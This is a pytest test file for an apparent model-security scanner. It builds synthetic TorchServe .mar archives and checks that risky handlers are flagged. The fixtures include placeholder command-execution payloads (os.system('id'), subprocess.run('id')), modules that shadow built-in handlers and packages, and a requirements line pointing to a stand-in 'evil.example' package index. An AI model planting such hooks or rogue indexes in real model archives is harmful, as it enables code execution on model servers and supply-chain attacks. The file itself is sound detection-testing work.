"""TorchServe `.mar` archives: shipped handler code (TSV001), handlers imported from the server's environment
(TSV002), shipped modules shadowing installed ones (TSV003), requirements the server installs (TSV004),
what could not be analysed (TSV005). Real archives from torch-model-archiver
(scripts/make_package_config_fixtures.py)."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from modelshield import scan_file
from modelshield.core.rules import Severity
from modelshield.formats.configs import torchserve

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "configs" / "torchserve"
CLEAN_HANDLER = "from ts.torch_handler.base_handler import BaseHandler\n\n\nclass H(BaseHandler):\n    pass\n"


def manifest(handler: str, **model: Any) -> str:
    body = {"modelName": "m", "serializedFile": "model.pt", "handler": handler, "modelVersion": "1.0", **model}
    return json.dumps(
        {"createdOn": "01/01/2026 00:00:00", "runtime": "python", "model": body, "archiverVersion": "0.12.0"}
    )


def mar(tmp_path: Path, handler: str, files: dict[str, str | bytes], **model: Any) -> str:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("MAR-INF/MANIFEST.json", manifest(handler, **model))
        zf.writestr("model.pt", b"\x80\x02}q\x00.")
        for name, data in files.items():
            zf.writestr(name, data)
    path = tmp_path / "model.mar"
    path.write_bytes(buffer.getvalue())
    return str(path)


def levels(path: str) -> dict[str, Severity]:
    found: dict[str, Severity] = {}
    for f in scan_file(path).findings:
        found[f.rule_id] = max(found.get(f.rule_id, Severity.INFO), f.level)
    return found


def test_real_archive_with_a_built_in_handler_is_clean() -> None:
    result = scan_file(str(FIXTURES / "real_image_classifier.mar"))
    assert "torchserve" in result.format
    assert [f.rule_id for f in result.findings if f.level > Severity.INFO] == []


def test_real_archive_with_a_custom_handler_running_a_command() -> None:
    """Written by torch-model-archiver: `my_handler.py` calls os.system at import; requirements.txt too."""
    result = scan_file(str(FIXTURES / "custom_handler.mar"))
    (code,) = [f for f in result.findings if f.rule_id == "TSV001"]
    assert code.level is Severity.CRITICAL and code.location.members == ("my_handler.py",)
    assert "os.system" in code.evidence
    (install,) = [f for f in result.findings if f.rule_id == "TSV004"]
    assert install.level is Severity.MEDIUM and install.details["requirements"] == ["numpy"]


def test_clean_custom_handler_is_medium_and_payload_in_initialize_is_critical(tmp_path: Path) -> None:
    assert levels(mar(tmp_path, "h.py", {"h.py": CLEAN_HANDLER}))["TSV001"] is Severity.MEDIUM
    hostile = CLEAN_HANDLER + "\n    def initialize(self, context):\n        __import__('os').system('id')\n"
    assert levels(mar(tmp_path, "h.py", {"h.py": hostile}))["TSV001"] is Severity.CRITICAL


def test_shipped_module_replacing_a_built_in_handler(tmp_path: Path) -> None:
    """The worker tries import_module('image_classifier') from the model folder before ts.torch_handler."""
    path = mar(tmp_path, "image_classifier", {"image_classifier.py": "import os\nos.system('id')\n"})
    (finding,) = [f for f in scan_file(path).findings if f.rule_id == "TSV001"]
    assert finding.level is Severity.CRITICAL and "replaces the built-in" in finding.evidence


def test_payload_in_a_helper_module_the_handler_imports(tmp_path: Path) -> None:
    files = {"h.py": "import helpers\n" + CLEAN_HANDLER, "helpers.py": "import subprocess\nsubprocess.run('id')\n"}
    found = [f for f in scan_file(mar(tmp_path, "h.py", files)).findings if f.rule_id == "TSV001"]
    assert {f.location.members[-1]: f.level for f in found} == {
        "h.py": Severity.MEDIUM,
        "helpers.py": Severity.CRITICAL,
    }


@pytest.mark.parametrize(
    ("handler", "severity"), [("subprocess:getoutput", Severity.CRITICAL), ("some_installed_pkg", Severity.MEDIUM)]
)
def test_handler_from_the_server_environment_is_judged(tmp_path: Path, handler: str, severity: Severity) -> None:
    assert levels(mar(tmp_path, handler, {}))["TSV002"] is severity


def test_modules_named_like_installed_packages(tmp_path: Path) -> None:
    path = mar(
        tmp_path,
        "image_classifier",
        {"numpy.py": "x = 1\n", "PIL/__init__.py": "", "labels.py": "X = 1\n", "test.py": "X = 1\n"},
    )
    evidence = [f.evidence for f in scan_file(path).findings if f.rule_id == "TSV003"]
    assert len(evidence) == 2 and any("'numpy'" in e for e in evidence) and any("'PIL'" in e for e in evidence)


def test_requirements_switching_the_index_are_high(tmp_path: Path) -> None:
    requirements = "--extra-index-url https://evil.example/simple\ntorch-utils\n"
    path = mar(tmp_path, "image_classifier", {"requirements.txt": requirements}, requirementsFile="requirements.txt")
    assert levels(path)["TSV004"] is Severity.HIGH


def test_shared_library_model_and_missing_handler(tmp_path: Path) -> None:
    found = levels(mar(tmp_path, "image_classifier", {"model.so": b"\x7fELF"}, serializedFile="model.so"))
    assert found["TSV001"] is Severity.HIGH
    found = levels(mar(tmp_path, "h.py", {}, modelFile="net.py"))
    assert found["TSV005"] is Severity.MEDIUM  # neither h.py nor net.py is shipped


def test_oversized_handler_is_not_analysed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(torchserve, "MAX_FILE", 100)
    path = mar(tmp_path, "h.py", {"h.py": CLEAN_HANDLER + "#" * 200 + "\n__import__('os').system('id')\n"})
    assert levels(path)["TSV005"] is Severity.MEDIUM


def test_extracted_model_folder(tmp_path: Path) -> None:
    """`--archive-format no-archive`: the manifest in MAR-INF/ with the handler beside the folder."""
    (tmp_path / "MAR-INF").mkdir()
    (tmp_path / "MAR-INF" / "MANIFEST.json").write_text(manifest("h.py"), encoding="utf-8")
    (tmp_path / "h.py").write_text("import os\nos.system('id')\n", encoding="utf-8")
    result = scan_file(str(tmp_path / "MAR-INF" / "MANIFEST.json"))
    (finding,) = [f for f in result.findings if f.rule_id == "TSV001"]
    assert finding.level is Severity.CRITICAL and finding.location.path == str(tmp_path / "h.py")


def test_handler_package_and_native_extension(tmp_path: Path) -> None:
    files = {"h/__init__.py": "import os\nos.system('id')\n", "fast.cpython-311-x86_64-linux-gnu.so": b"\x7fELF"}
    found = {
        f.location.members[-1]: f.level for f in scan_file(mar(tmp_path, "h", files)).findings if f.rule_id == "TSV001"
    }
    assert found == {"h/__init__.py": Severity.CRITICAL, "fast.cpython-311-x86_64-linux-gnu.so": Severity.HIGH}
    assert "TSV005" not in levels(mar(tmp_path, "h", files))


def test_python_per_archive_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(torchserve, "MAX_CODE_BYTES", len(CLEAN_HANDLER))
    path = mar(tmp_path, "a.py", {"a.py": CLEAN_HANDLER, "b.py": "import os\nos.system('id')\n"})
    found = [(f.rule_id, f.location.members[-1]) for f in scan_file(path).findings if f.rule_id.startswith("TSV")]
    assert ("TSV005", "b.py") in found and ("TSV001", "b.py") not in found


def test_tgz_archive_manifest_fails_closed(tmp_path: Path) -> None:
    """`--archive-format tgz`: `<name>/MAR-INF/MANIFEST.json` in a tar.gz; the handler is not read with it."""
    import tarfile

    def tgz(handler: str) -> str:
        path = tmp_path / f"{handler.replace(':', '_')}.tar.gz"
        with tarfile.open(path, "w:gz") as archive:
            for name, data in {"m/MAR-INF/MANIFEST.json": manifest(handler).encode(), "m/h.py": b"X = 1\n"}.items():
                info = tarfile.TarInfo(name)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
        return str(path)

    assert levels(tgz("h.py"))["TSV005"] is Severity.MEDIUM
    assert levels(tgz("subprocess:getoutput"))["TSV002"] is Severity.CRITICAL
    assert "TSV005" not in levels(tgz("image_classifier"))
